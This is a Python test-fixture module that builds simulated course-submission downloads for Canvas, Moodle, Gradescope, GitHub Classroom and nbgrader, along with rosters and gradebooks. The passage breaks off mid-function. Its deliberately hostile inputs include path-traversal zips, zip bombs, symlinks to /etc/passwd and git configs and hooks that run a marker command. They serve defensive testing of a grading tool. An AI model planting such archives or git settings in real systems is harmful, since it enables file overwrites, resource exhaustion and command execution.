"""Class downloads as learning platforms make them, with what is to be read out of each.

A *case* builds one or more downloads, a roster and the platform's own grade files into an empty
folder, and says as plain data what a reader of them must find: who handed in what, which attempt is
the latest, who cannot be matched, what must never happen. Nothing is drawn from the clock or from
the machine: a case with the same contents gives the same bytes.

    built = case("canvas_small").build(folder)
    built.downloads, built.roster, built.sheets, built.expected
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import stat
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import asdict, dataclass, field, replace
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path, PurePosixPath
from typing import Any

Files = Mapping[str, bytes]
"""What one person hands in: name of a file, and what it holds."""


# --- What is handed in -----------------------------------------------------------------------


@dataclass(frozen=True)
class Contents:
    """What students of a course may hand in: named variants of one assignment.

    With `marked`, each Python file ends with a comment that names its student and attempt, so that
    files which went to the wrong student are noticed.
    """

    assignment: str
    variants: Mapping[str, Files]
    marked: bool = True

    def files(self, variant: str, student: str, attempt: int = 1) -> dict[str, bytes]:
        """The files of a variant, as this student hands them in."""
        mark = f"\n# {_plain(student)}, attempt {attempt}\n".encode()
        return {
            name: body + mark if self.marked and name.endswith(".py") else body
            for name, body in self.variants[variant].items()
        }

    @classmethod
    def read(cls, assignment: str, *folders: Path, marked: bool = True) -> Contents:
        """Variants from folders: each holds the files of one, at its top level."""
        variants = {
            folder.name: {
                path.name: path.read_bytes() for path in sorted(folder.iterdir()) if path.is_file()
            }
            for folder in folders
        }
        return cls(assignment, variants, marked)


_VOWELS = b'''"""Task 1 of 3: vowels. How many vowels a text has."""


def count_vowels(text: str) -> int:
    return sum(letter in "aeiouy" for letter in text.lower())
'''
_SHARES = b'''"""Task 2 of 3: shares. What part of the whole each number is."""

import torch


def shares(numbers: torch.Tensor) -> torch.Tensor:
    total = numbers.sum()
    if total == 0:
        raise ValueError("The numbers add up to zero, so they have no shares.")
    return numbers / total
'''
_REFLECTION = "# Reflection\n\nWhy do the shares add up to one?\n\n{}\n"
_RIGHT: dict[str, bytes] = {
    "vowels.py": _VOWELS,
    "shares.py": _SHARES,
    "reflection.md": _REFLECTION.format("All parts together are the whole.").encode(),
}
TOY = Contents(
    "counting",
    {
        "right": _RIGHT,
        "misses_capitals": {**_RIGHT, "vowels.py": _VOWELS.replace(b".lower()", b"")},
        "y_is_no_vowel": {**_RIGHT, "vowels.py": _VOWELS.replace(b"aeiouy", b"aeiou")},
        "divides_by_the_largest": {
            **_RIGHT,
            "shares.py": _SHARES.replace(b"numbers / total", b"numbers / numbers.max()"),
        },
        "unfinished": {
            "vowels.py": b"def count_vowels(text):\n    raise NotImplementedError\n",
            "shares.py": b"def shares(numbers):\n    raise NotImplementedError\n",
            "reflection.md": _REFLECTION.format("*Your answer:*").encode(),
        },
        "does_not_parse": {**_RIGHT, "vowels.py": b"def count_vowels(text):\n    return (\n"},
        "one_file_only": {"vowels.py": _VOWELS},
    },
)
"""A small course that grades fast: two functions and one question."""

BEGIN = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
DEADLINE = datetime(2026, 3, 9, 23, 59, tzinfo=UTC)
"""When hand-ins begin, and after when they are late."""


@dataclass(frozen=True)
class Person:
    """One student. `number` is what the platform calls the student by itself."""

    id: str
    given: str
    family: str
    login: str
    email: str
    section: str
    number: int

    @property
    def name(self) -> str:
        """First the given name."""
        return f"{self.given} {self.family}".strip()

    @property
    def last_first(self) -> str:
        """First the family name, then a comma."""
        return f"{self.family}, {self.given}" if self.family else self.given


@dataclass(frozen=True)
class Attempt:
    """One hand-in: its files, when, and what is wrong with how it was packed (see `SPOILED`)."""

    files: Files
    at: datetime = BEGIN
    variant: str = ""
    spoiled: str = ""

    @property
    def late(self) -> bool:
        """Whether it came after the deadline."""
        return self.at > DEADLINE


@dataclass(frozen=True)
class HandIn:
    """What one person, or a group, handed in: attempts, the oldest first."""

    people: tuple[Person, ...]
    attempts: tuple[Attempt, ...]
    enrolled: bool = True

    @property
    def first(self) -> Person:
        """Who stands for the group."""
        return self.people[0]

    @property
    def last(self) -> Attempt:
        """The latest attempt."""
        return self.attempts[-1]


def hand_ins(handed_in: Mapping[Person, Files | Sequence[Files]]) -> list[HandIn]:
    """The plain way in: student → files, or student → attempts with the oldest first."""
    found = []
    for person, given in handed_in.items():
        several = [given] if isinstance(given, Mapping) else list(given)
        attempts = tuple(Attempt(f, BEGIN + timedelta(hours=n)) for n, f in enumerate(several))
        found.append(HandIn((person,), attempts))
    return found


# --- Trees: what lies in a folder or zip -----------------------------------------------------


@dataclass(frozen=True)
class Link:
    """A symbolic link."""

    target: str


@dataclass(frozen=True)
class Pipe:
    """A named pipe: who opens it to read waits for ever."""


Tree = dict[str, "bytes | Link | Pipe"]
"""Path → what lies there. A path that ends with a slash is an empty folder."""


def lay(tree: Tree, folder: Path) -> Path:
    """Writes a tree into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, body in tree.items():
        path = folder / name
        if name.endswith("/"):
            path.mkdir(parents=True, exist_ok=True)
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(body, Link):
            path.symlink_to(body.target)
        elif isinstance(body, Pipe):
            os.mkfifo(path)
        else:
            path.write_bytes(body)
    return folder


def zipped(tree: Tree, at: datetime = BEGIN) -> bytes:
    """A tree as a zip. Links become links of the zip; pipes are left out."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in tree.items():
            if not isinstance(body, Pipe):
                _add(archive, name, body, at)
    return stream.getvalue()


def _add(archive: zipfile.ZipFile, name: str, body: bytes | Link, at: datetime) -> None:
    info = zipfile.ZipInfo(name, at.timetuple()[:6])
    info.create_system = 3
    info.compress_type = zipfile.ZIP_DEFLATED
    mode = stat.S_IFDIR | 0o755 if name.endswith("/") else stat.S_IFREG | 0o644
    if isinstance(body, Link):
        mode, body = stat.S_IFLNK | 0o777, body.target.encode()
    info.external_attr = mode << 16
    archive.writestr(info, body)


def _under(folder: str, tree: Mapping[str, bytes | Link | Pipe]) -> Tree:
    return (
        {f"{folder}/{name}": body for name, body in tree.items()} if tree else {f"{folder}/": b""}
    )


# --- How a hand-in may be packed -------------------------------------------------------------

HARMLESS = frozenset(
    {"macosx", "ds_store", "nested", "nested_twice", "pycache", "extra_files", "capital_zip"}
)
"""Packed untidily, yet all files are there: graded like any other."""

SPOILED: Mapping[str, str] = {
    "empty_zip": "a zip without a single file",
    "zero_bytes": "a zip of 0 bytes",
    "corrupt_zip": "a zip with bytes changed in the middle, so that its checksums are wrong",
    "truncated_zip": "a zip whose second half is missing",
    "not_a_zip": "a page of HTML that is called .zip",
    "climbing": "a zip that wants to write ../../climbed-<id>.txt",
    "absolute": "a zip that wants to write /tmp/climbed-absolute-<id>.txt",
    "backslash_climbing": "a zip that wants to write ..\\..\\climbed-<id>.txt",
    "bomb": "80 MiB of zeros in some 80 kB",
    "lying": "24 MiB of zeros in a zip that says that they are 100 bytes",
    "too_many": "a zip of 320 files",
    "link_in_zip": "a zip in which a file is a symbolic link to /etc/passwd",
    "locked": "a zip with a password",
    "twice_in_zip": "a zip that holds the same path twice, with two contents",
    "empty_files": "files of 0 bytes: nothing is broken, and nothing is done",
    "empty_folder": "a folder without a file",
    "link_to_secret": "a folder in which a file is a symbolic link to /etc/passwd",
    "link_to_neighbour": "a folder in which a file is a link into the folder of another student",
    "link_to_itself": "a folder in which a link leads back to the folder",
    "dangling_link": "a folder in which a link leads nowhere",
    "pipe": "a folder in which a file is a named pipe",
}
"""What may be wrong with a hand-in. The student stays, with a sentence; all others are graded."""

_NEIGHBOUR = "file of the same name that a neighbour handed in"
"""Stands for a link's target until it is known where the others' files lie."""

IN_ZIPS = (
    "empty_zip", "zero_bytes", "corrupt_zip", "truncated_zip", "not_a_zip", "climbing", "absolute",
    "backslash_climbing", "bomb", "lying", "too_many", "link_in_zip", "locked", "twice_in_zip",
    "empty_files", "macosx", "ds_store", "nested", "nested_twice", "pycache", "extra_files",
)  # fmt: skip
IN_FOLDERS = (
    "empty_folder", "link_to_secret", "link_to_neighbour", "link_to_itself", "dangling_link",
    "pipe", "empty_files", "macosx", "ds_store", "nested", "pycache", "extra_files",
)  # fmt: skip
IN_ZIPPED_FOLDERS = ("empty_files", "macosx", "ds_store", "nested", "pycache", "extra_files")
"""Which of them can happen to a zip per student, to a folder, to a folder within a zip."""


def forbidden_names(spoiled: str, student: str) -> tuple[str, ...]:
    """Names of files that must not exist anywhere after such a hand-in was read."""
    tag = _plain(student)
    return {
        "climbing": (f"climbed-{tag}.txt",),
        "backslash_climbing": (f"climbed-{tag}.txt",),
        "absolute": (f"climbed-absolute-{tag}.txt",),
    }.get(spoiled, ())


def untidy(files: Files, how: str, assignment: str, student: str) -> Tree:
    """The tree that a student hands in, as a folder or packed into a zip."""
    tree: Tree = dict(files)
    first = next(iter(files), "work.py")
    if how in ("nested", "nested_twice"):
        deep = assignment if how == "nested" else f"Desktop/{assignment} final (2)"
        return _under(deep, tree)
    if how == "macosx":
        shadow: Tree = {f"__MACOSX/{assignment}/._{name}": b"\0\5\26\7" * 30 for name in files}
        return _under(assignment, tree) | shadow
    if how == "ds_store":
        return {".DS_Store": b"\0\0\0\1Bud1" + bytes(60), **tree, f"._{first}": b"\0\5\26\7"}
    if how == "pycache":
        cached = f"__pycache__/{PurePosixPath(first).stem}.cpython-311.pyc"
        return {**tree, cached: b"\xa7\r\r\n" + bytes(40), ".ipynb_checkpoints/": b""}
    if how == "extra_files":
        return {**tree, "notes.txt": b"Ask about part two.\n", "old/copy of work.py": b"x = (\n"}
    if how == "empty_files":
        return dict.fromkeys(files, b"")
    if how == "empty_folder":
        return {}
    links = {
        "link_to_secret": "/etc/passwd",
        "link_in_zip": "/etc/passwd",
        "link_to_neighbour": _NEIGHBOUR,
        "dangling_link": "nowhere.py",
    }
    if how in links:
        return {**tree, first: Link(links[how])}
    if how == "link_to_itself":
        return {**tree, "again": Link(".")}
    if how == "pipe":
        return {**tree, first: Pipe()}
    outside = {
        "climbing": f"../../climbed-{_plain(student)}.txt",
        "backslash_climbing": f"..\\..\\climbed-{_plain(student)}.txt",
        "absolute": f"/tmp/climbed-absolute-{_plain(student)}.txt",  # noqa: S108
    }
    if how in outside:
        return {**tree, outside[how]: b"I was here.\n"}
    if how == "too_many":
        return {**tree, **{f"many/part_{n}.py": b"x = 1\n" for n in range(320)}}
    return tree


def packed(attempt: Attempt, assignment: str, student: str) -> bytes:
    """The zip that a student hands in, spoiled as the attempt says."""
    how = attempt.spoiled
    if how == "zero_bytes":
        return b""
    if how == "not_a_zip":
        return b"<!DOCTYPE html><title>Sign in</title><p>Your session has expired.\n"
    if how == "empty_zip":
        return zipped({}, attempt.at)
    if how == "bomb":
        return _zeros(80)
    if how == "lying":
        return _lying()
    whole = zipped(untidy(attempt.files, how, assignment, student), attempt.at)
    if how == "truncated_zip":
        return whole[: len(whole) // 2]
    if how == "corrupt_zip":
        middle = 30 + len(next(iter(attempt.files), "")) + 8
        return (
            whole[:middle]
            + bytes(byte ^ 0x5A for byte in whole[middle:][:12])
            + whole[middle + 12 :]
        )
    if how == "locked":
        return _locked(whole)
    if how == "twice_in_zip":
        return _twice(attempt)
    return whole


@cache
def _zeros(mebibytes: int) -> bytes:
    stream = io.BytesIO()
    info = zipfile.ZipInfo("work.py", BEGIN.timetuple()[:6])
    info.compress_type = zipfile.ZIP_DEFLATED
    info.file_size = mebibytes << 20
    with zipfile.ZipFile(stream, "w") as archive, archive.open(info, "w") as out:
        for _ in range(mebibytes):
            out.write(bytes(1 << 20))
    return stream.getvalue()


@cache
def _lying() -> bytes:
    """The true size is replaced by 100, in the file's own header and in the table at the end."""
    return _zeros(24).replace(struct.pack("<L", 24 << 20), struct.pack("<L", 100))


def _locked(whole: bytes) -> bytes:
    """Sets the flag that says that a password is needed, in each header."""
    changed = bytearray(whole)
    for begin, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(begin), whole):
            changed[found.start() + flags] |= 1
    return bytes(changed)


def _twice(attempt: Attempt) -> bytes:
    """Written under names of the same length first: a zip is not asked to repeat a name."""
    first = next(iter(attempt.files), "work.py")
    other = "~" * len(first)
    whole = zipped({**attempt.files, other: b"raise SystemExit\n"}, attempt.at)
    return whole.replace(other.encode(), first.encode())


def _plain(text: str) -> str:
    """Letters and digits of ASCII, for names of files and comments."""
    flat = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return re.sub(r"[^A-Za-z0-9]+", "-", flat).strip("-")


# --- Downloads -------------------------------------------------------------------------------


@dataclass(frozen=True)
class Download:
    """A download before it is written.

    `entries`: for each hand-in, what it is called there. `kept`: how many of its attempts, the
    latest ones, are there; nothing is said where the layout itself says it.
    """

    tree: Tree
    entries: tuple[tuple[str, ...], ...]
    ignored: tuple[str, ...] = ()
    kept: tuple[int, ...] = ()

    def write(self, folder: Path, name: str, *, as_zip: bool = False) -> Path:
        """Writes it as a folder, or as one zip, and says where it is."""
        self._find_neighbours()
        if as_zip:
            path = folder / f"{name}.zip"
            path.write_bytes(zipped(self.tree))
            return path
        return lay(self.tree, folder / name)

    def _find_neighbours(self) -> None:
        for name, body in self.tree.items():
            if isinstance(body, Link) and body.target == _NEIGHBOUR:
                at = PurePosixPath(name)
                other = next(
                    path
                    for path, held in self.tree.items()
                    if isinstance(held, bytes)
                    and held
                    and path != name
                    and PurePosixPath(path).name == at.name
                    and path.count("/") == name.count("/")
                )
                self.tree[name] = Link(os.path.relpath(other, at.parent))


def canvas_name(sortable: str) -> str:
    """What Canvas makes of a sortable name: small letters; all but letters, digits and _ goes."""
    kept = (c for c in sortable.lower() if c == "_" or unicodedata.category(c)[0] in "LMN")
    return "".join(kept)


def canvas(
    handed_in: Sequence[HandIn],
    assignment: str,
    *,
    singly: Callable[[int], bool] = lambda index: False,
    all_attempts: bool = True,
    anonymous: bool = False,
    texts: Sequence[Person] = (),
    upload: int = 700001,
) -> Download:
    """`submissions.zip` of Canvas: flat, `<lastfirst>[_LATE]_<user>_<attachment>_<file>`.

    The second file of a name that a student uploads is called `…-1.zip`. Of files that came singly,
    only the latest attempt is there, since nothing says which file belongs to which. `texts` are
    students who typed their answer into Canvas: `…_text.html`, no submission of files.
    """
    tree: Tree = {}
    kept: list[int] = []
    entries: list[tuple[str, ...]] = []
    for index, hand in enumerate(handed_in):
        person, names = hand.first, []
        several = all_attempts and not singly(index)
        kept.append(len(hand.attempts) if several else 1)
        earlier: list[str] = []
        for attempt in hand.attempts:
            begin = [canvas_name(person.last_first), "LATE" if attempt.late else "", person.number]
            if anonymous:
                begin = ["LATE" if attempt.late else "", f"anon_{_anonymous(person)}"]
            begin = [part for part in begin if part != ""]
            files: Files = {f"{assignment}.zip": packed(attempt, assignment, person.id)}
            if singly(index):
                files = _only_bytes(untidy(attempt.files, attempt.spoiled, assignment, person.id))
            for name, body in files.items():
                repeats = earlier.count(name)
                earlier.append(name)
                if not several and attempt is not hand.last:
                    continue
                path = PurePosixPath(name)
                file = f"{path.stem}-{repeats}{path.suffix}" if repeats else name
                called = "_".join([*map(str, begin), str(upload), file])
                tree[called] = body
                names.append(called)
                upload += 1 + index % 3
        entries.append(tuple(names))
    ignored = tuple(f"{canvas_name(p.last_first)}_{p.number}_text.html" for p in texts)
    tree |= dict.fromkeys(ignored, b"<!DOCTYPE html><p>See my answer to the e-mail.</p>\n")
    return Download(tree, tuple(entries), ignored, tuple(kept))


def _anonymous(person: Person) -> str:
    return (
        hashlib.sha256(person.id.encode()).hexdigest()[:5].translate(str.maketrans("0123", "xQzK"))
    )


def _only_bytes(tree: Tree) -> dict[str, bytes]:
    """Files at the top level, as a form takes them."""
    return {n: b for n, b in tree.items() if isinstance(b, bytes) and "/" not in n}


def moodle_name(person: Person) -> str:
    """What Moodle makes of a full name: what file systems dislike is dropped, _ becomes a space."""
    return re.sub(r"[\x00-\x1f\x7f&<>\"`|':\\/]", "", person.name.replace("_", " "))


def moodle(
    handed_in: Sequence[HandIn],
    assignment: str,
    *,
    inside: Callable[[int], str] = lambda index: "zip",
    ending: str = "_",
    flat: bool = False,
    texts: Sequence[Person] = (),
    blind: bool = False,
    group: str = "",
    name_of: Callable[[Person], str] = moodle_name,
) -> Download:
    """`<Full Name>_<participant>_assignsubmission_file_/` with a zip, or with the files.

    `flat`: the download "without folders", in which the same words begin the name of each file.
    `blind`: names are hidden, so that all are called Participant. Moodle gives the latest attempt
    only. `texts` typed their answer: `…_onlinetext_`, no submission of files.
    """
    tree: Tree = {}
    entries: list[tuple[str, ...]] = []
    for index, hand in enumerate(handed_in):
        person, attempt = hand.first, hand.last
        full = "Participant" if blind else name_of(person)
        folder = f"{group}{full}_{person.number}_assignsubmission_file{ending}"
        held: Tree = {f"{assignment}.zip": packed(attempt, assignment, person.id)}
        if inside(index) == "files":
            held = untidy(attempt.files, attempt.spoiled, assignment, person.id)
        if flat:
            placed: Tree = {f"{folder.rstrip('_')}_{name}": body for name, body in held.items()}
            entries.append(tuple(placed))
        else:
            placed = _under(folder, held)
            entries.append((folder,))
        tree |= placed
    ignored = tuple(f"{name_of(p)}_{p.number}_assignsubmission_onlinetext{ending}" for p in texts)
    if flat:
        ignored = tuple(f"{folder.rstrip('_')}_onlinetext.html" for folder in ignored)
    for each in ignored:
        tree[each if flat else f"{each}/onlinetext.html"] = b"<p>I have no questions.</p>\n"
    return Download(tree, tuple(entries), ignored)


def gradescope(
    handed_in: Sequence[HandIn],
    *,
    ruby_objects: bool = False,
    wrapped: str = "assignment_4711_export",
    with_sid: Callable[[Person], bool] = lambda person: True,
    before: str = "---\n",
) -> Download:
    """An export of Gradescope: `submission_metadata.yml` and a folder for each submission.

    Keys are symbols of Ruby. `ruby_objects` writes times as older exports do, as tagged objects.
    Groups are several people under `:submitters:`. Each attempt that is kept is a submission.
    """
    tree: Tree = {}
    entries: list[tuple[str, ...]] = []
    lines = [before]
    number = 90210
    for hand in handed_in:
        names = []
        for attempt in hand.attempts:
            number += 17
            folder = f"submission_{number}"
            names.append(folder)
            tree |= _under(
                f"{wrapped}/{folder}" if wrapped else folder,
                untidy(attempt.files, attempt.spoiled, "", hand.first.id),
            )
            lines.append(f"{folder}:\n  :submitters:\n")
            for person in hand.people:
                lines.append(f"  - :name: {_yaml(person.name)}\n")
                if with_sid(person):
                    lines.append(f"    :sid: '{person.id}'\n")
                lines.append(f"    :email: {_yaml(person.email)}\n")
            lines.append(_created(attempt.at, number, ruby_objects))
            lines.append("  :score: 0.0\n  :status: processed\n  :results:\n    tests: []\n")
            lines.append("  :history: []\n")
        entries.append(tuple(names))
    if not handed_in:
        lines.append("{}\n")
    table = f"{wrapped}/submission_metadata.yml" if wrapped else "submission_metadata.yml"
    return Download({table: "".join(lines).encode(), **tree}, tuple(entries))


def _yaml(text: str) -> str:
    """A scalar as Ruby writes it: bare where that is safe, in double quotes elsewhere."""
    if re.fullmatch(r"[^\W\d_][\w .@'+-]*\w", text) and text.lower() not in ("null", "yes", "no"):
        return text
    return json.dumps(text)


def _created(at: datetime, number: int, ruby_objects: bool) -> str:
    moment = f"{at:%Y-%m-%d %H:%M:%S}.000000000 Z"
    if not ruby_objects:
        return f"  :created_at: {moment}\n"
    return (
        "  :created_at: !ruby/object:ActiveSupport::TimeWithZone\n"
        f"    utc: &{number} {moment}\n"
        "    zone: !ruby/object:ActiveSupport::TimeZone\n      name: Etc/UTC\n"
        f"    time: *{number}\n"
    )


def github(
    handed_in: Sequence[HandIn],
    assignment: str,
    *,
    classroom_50: bool = False,
    login_of: Callable[[Person], str] = lambda person: person.login,
    armed: Callable[[int], bool] = lambda index: False,
    with_git: Callable[[int], bool] = lambda index: True,
) -> Download:
    """A folder of clones, `<assignment>-<login>/` with `.git`, of Classroom or Classroom 50.

    Each attempt is a commit; what lies in the folder is the latest. `armed` clones hold settings
    by which git would run a command: it leaves `run-by-git-<id>` behind.
    """
    tree: Tree = {}
    entries = []
    for index, hand in enumerate(handed_in):
        person = hand.first
        name = f"{assignment}-{login_of(person)}"
        clone = untidy(hand.last.files, hand.last.spoiled, assignment, person.id)
        if not clone:
            clone = {"README.md": b""}
        workflow = ".github/workflows/" + ("classroom50.yml" if classroom_50 else "classroom.yml")
        clone = {"README.md": f"# {name}\n".encode(), workflow: b"on: [push]\n", **clone}
        if with_git(index):
            clone |= _git(hand, name, classroom_50, armed(index))
        tree |= _under(name, clone)
        entries.append((name,))
    return Download(tree, tuple(entries))


def _git(hand: HandIn, name: str, classroom_50: bool, armed: bool) -> Tree:
    """A repository that git can read: a commit for each attempt."""
    made: Tree = {}

    def put(kind: str, body: bytes) -> str:
        whole = f"{kind} {len(body)}\0".encode() + body
        key = hashlib.sha1(whole, usedforsecurity=False).hexdigest()
        made[f".git/objects/{key[:2]}/{key[2:]}"] = zlib.compress(whole)
        return key

    person, parent = hand.first, ""
    for number, attempt in enumerate(hand.attempts, 1):
        rows = [
            b"100644 " + path.encode() + b"\0" + bytes.fromhex(put("blob", body))
            for path, body in sorted(attempt.files.items())
            if "/" not in path
        ]
        who = f"{_plain(person.name)} <{person.email}> {int(attempt.at.timestamp())} +0000"
        text = f"tree {put('tree', b''.join(rows))}\n"
        text += f"parent {parent}\n" if parent else ""
        text += f"author {who}\ncommitter {who}\n\nAttempt {number}\n"
        parent = put("commit", text.encode())
        if classroom_50:
            made[f".git/refs/tags/submit/{attempt.at:%Y-%m-%dT%H-%M-%SZ}"] = f"{parent}\n".encode()
    settings = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
    settings += f'[remote "origin"]\n\turl = https://github.com/our-course/{name}.git\n'
    if armed:
        command = f"touch run-by-git-{_plain(person.id)}"
        settings += f'[core]\n\tfsmonitor = "{command}; false"\n\tsshCommand = {command}\n'
        settings += f'[diff]\n\texternal = {command}\n[core]\n\tpager = "{command}"\n'
        made[".git/hooks/post-checkout"] = f"#!/bin/sh\n{command}\n".encode()
    made[".git/config"] = settings.encode()
    made[".git/HEAD"] = b"ref: refs/heads/main\n"
    made[".git/refs/heads/main"] = f"{parent}\n".encode()
    return made


def nbgrader(
    handed_in: Sequence[HandIn],
    assignment: str,
    *,
    timestamps: bool = True,
    other_assignment: str = "",
    student_of: Callable[[Person], str] = lambda person: person.id,
    top: str = "submitted",
) -> Download:
    """`submitted/<student>/<assignment>/` with `timestamp.txt`, beside another assignment."""
    tree: Tree = {}
    entries = []
    for hand in handed_in:
        folder = "/".join(part for part in (top, student_of(hand.first), assignment) if part)
        held = untidy(hand.last.files, hand.last.spoiled, assignment, hand.first.id)
        if timestamps:
            held["timestamp.txt"] = f"{hand.last.at:%Y-%m-%d %H:%M:%S}.000000 UTC\n".encode()
        tree |= _under(folder, held)
        if other_assignment:
            tree[folder[: -len(assignment)] + f"{other_assignment}/other.py"] = b"x = (\n"
        entries.append((student_of(hand.first),))
    return Download(tree, tuple(entries))


NAMED_AFTER: tuple[Callable[[Person], str], ...] = (
    lambda person: person.name,
    lambda person: person.last_first,
    lambda person: f"{person.family}_{person.given}".replace(" ", "_"),
    lambda person: person.login,
    lambda person: person.id,
    lambda person: person.email,
)
"""Ways in which people name a folder after a student."""


def folders(
    handed_in: Sequence[HandIn],
    assignment: str,
    *,
    name_of: Callable[[int, Person], str] = lambda index, person: person.name,
    as_zips: Callable[[int], bool] = lambda index: False,
    litter: bool = True,
) -> Download:
    """Folders and zips that are named after people; among them what file managers leave behind."""
    tree: Tree = {}
    entries = []
    for index, hand in enumerate(handed_in):
        name = name_of(index, hand.first)
        if as_zips(index):
            name += ".zip"
            tree[name] = packed(hand.last, assignment, hand.first.id)
        else:
            tree |= _under(
                name, untidy(hand.last.files, hand.last.spoiled, assignment, hand.first.id)
            )
        entries.append((name,))
    ignored: tuple[str, ...] = ()
    if litter:
        ignored = (".DS_Store", "Thumbs.db", "desktop.ini", "__MACOSX")
        tree |= {".DS_Store": b"\0\0\0\1Bud1", "Thumbs.db": b"\xd0\xcf", "desktop.ini": b"[x]\r\n"}
        tree["__MACOSX/._work"] = b"\0\5\26\7"
    return Download(tree, tuple(entries), ignored)


def single_files(
    handed_in: Sequence[HandIn],
    *,
    name_of: Callable[[int, Person], str] = lambda index, person: person.login,
) -> Download:
    """All files of all students in one folder: `<who>_<file>`."""
    tree: Tree = {}
    entries = []
    for index, hand in enumerate(handed_in):
        files = _only_bytes(untidy(hand.last.files, hand.last.spoiled, "", hand.first.id))
        named = {f"{name_of(index, hand.first)}_{file}": body for file, body in files.items()}
        tree |= named
        entries.append(tuple(named))
    return Download(tree, tuple(entries))


# --- Rosters ---------------------------------------------------------------------------------

HEADS = ("id", "name", "login", "e-mail", "section")


def roster(
    people: Sequence[Person],
    *,
    heads: Sequence[str] = HEADS,
    delimiter: str = ",",
    bom: bool = False,
    encoding: str = "utf-8",
    end: str = "\n",
    extra: Mapping[str, Callable[[Person], str]] | None = None,
    name_of: Callable[[Person], str] = lambda person: person.name,
    again: Sequence[Person] = (),
) -> bytes:
    """A roster as CSV. `heads` may be reordered or left out; `again` are rows that are repeated."""
    more = extra or {}
    stream = io.StringIO()
    writer = csv.writer(stream, delimiter=delimiter, lineterminator=end)
    writer.writerow([*heads, *more])
    for person in [*people, *again]:
        known = {
            "id": person.id,
            "name": name_of(person),
            "login": person.login,
            "e-mail": person.email,
            "email": person.email,
            "section": person.section,
        }
        writer.writerow(
            [*(known[h.strip().lower()] for h in heads), *(f(person) for f in more.values())]
        )
    return (b"\xef\xbb\xbf" if bom else b"") + stream.getvalue().encode(encoding)


def bad_rosters(people: Sequence[Person]) -> dict[str, tuple[bytes, str]]:
    """Rosters that are to be refused with a sentence: name → bytes, and what is wrong."""
    good = roster(people)
    conflict = replace(
        people[0], given="Somebody", family="Else", login="else", email="e@uni.example"
    )
    return {
        "empty": (b"", "it holds nothing"),
        "heading_only": (roster([]), "nobody stands in it"),
        "no_heading": (good.split(b"\n", 1)[1], "its first row is a student"),
        "no_id": (roster(people, heads=("name", "login")), "it has no column for the id"),
        "heading_twice": (
            roster(people, heads=("id", "name", "login", "e-mail", "section", "id")),
            "two columns are called id",
        ),
        "utf16": (good.decode().encode("utf-16"), "it is text of another encoding"),
        "bytes": (bytes(range(256)) * 20, "it is no text"),
        "nul": (good.replace(b"@", b"\0", 1), "it holds a NUL"),
        "short_row": (good + b"0099\n", "its last row has one cell"),
        "long_row": (
            good + b"0099,A B,ab,a@b.example,1,2,3,4\n",
            "its last row has too many cells",
        ),
        "no_id_in_row": (good + b",Nora Nobody,nora,nora@uni.example,1\n", "a row has no id"),
        "open_quote": (good + b'0099,"A B,ab,a@b.example,1\n', "a quote is never closed"),
        "id_of_two": (roster([*people, conflict]), "one id stands for two people"),
    }


# --- Grade files of the platforms --------------------------------------------------------------


@dataclass(frozen=True)
class Sheet:
    """A grade file of a platform, to be filled in, and what is to be found in it.

    `rows`: student id → number of the record, where the heading is 1. `error`: why the whole file
    is to be refused before anything is written. `old`: grades that stand in it. `closed`: rows
    that the platform will not let change. `may_refuse`: ids and logins contradict each other, so
    that rows may also be left out and listed; none may get the grade of another. `untouched`:
    records that are no student of ours. Order, columns and identity cells stay as they are.
    """

    path: str
    kind: str
    rows: dict[str, int]
    grade: str
    points: float
    feedback: str = ""
    strangers: tuple[str, ...] = ()
    missing: tuple[str, ...] = ()
    ambiguous: dict[str, tuple[str, ...]] = field(default_factory=dict)
    old: dict[str, str] = field(default_factory=dict)
    closed: tuple[str, ...] = ()
    read_only: tuple[str, ...] = ()
    untouched: tuple[int, ...] = ()
    error: str = ""
    may_refuse: bool = False
    bom: bool = False
    end: str = "\n"
    delimiter: str = ","
    sha256: str = ""


def canvas_gradebook(
    folder: Path,
    people: Sequence[Person],
    *,
    name: str = "canvas",
    assignment: str = "Letters and shares (31337)",
    points: float = 7,
    above: str = "",
    zeros_lost: bool = False,
    login_is_email: bool = False,
    names_only: bool = False,
    no_column: bool = False,
    delimiter: str = ",",
    bom: bool = False,
    strangers: Sequence[Person] = (),
    without: Sequence[Person] = (),
    again: Sequence[Person] = (),
    old: Mapping[str, str] | None = None,
    sections: str = "{}",
) -> Sheet:
    """The gradebook that Canvas exports.

    `above`: "blank" for the blank row above `Points Possible` that comes once grades exist,
    "posting" for one that says `Manual Posting`. `zeros_lost`: a spreadsheet has taken the leading
    zeros from the ids. `names_only`: the school keeps no ids or logins in Canvas.
    """
    heads = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    read_only = ["Assignments Current Score", "Assignments Final Score", "Final Grade"]
    columns = [] if no_column else [assignment]
    columns = ["Warm-up (31336)", *columns, *read_only]
    stream = io.StringIO()
    writer = csv.writer(stream, delimiter=delimiter, lineterminator="\n")
    writer.writerow([*heads, *columns])
    record, untouched = 1, []
    if above:
        said = {"31336": "", "31337": "Manual Posting" if above == "posting" else ""}
        writer.writerow([""] * len(heads) + [said.get(c[-6:-1], "") for c in columns])
        record += 1
        untouched.append(record)
    possible = {"Warm-up (31336)": "2.00", assignment: f"{points:.2f}"}
    writer.writerow(
        ["    Points Possible", "", "", "", "", *(possible.get(c, "(read only)") for c in columns)]
    )
    record += 1
    untouched.append(record)
    rows: dict[str, int] = {}
    named: dict[str, list[str]] = {}
    old = old or {}
    absent = {person.id for person in without}
    listed = sorted(people, key=lambda person: person.last_first.lower())
    for person in [*listed, *strangers, *again]:
        if person.id in absent:
            continue
        record += 1
        cells = {"Warm-up (31336)": "1.50", assignment: old.get(person.id, "")}
        sis = person.id.lstrip("0") if zeros_lost else person.id
        login = person.email if login_is_email else person.login
        if names_only:
            sis = login = ""
        writer.writerow(
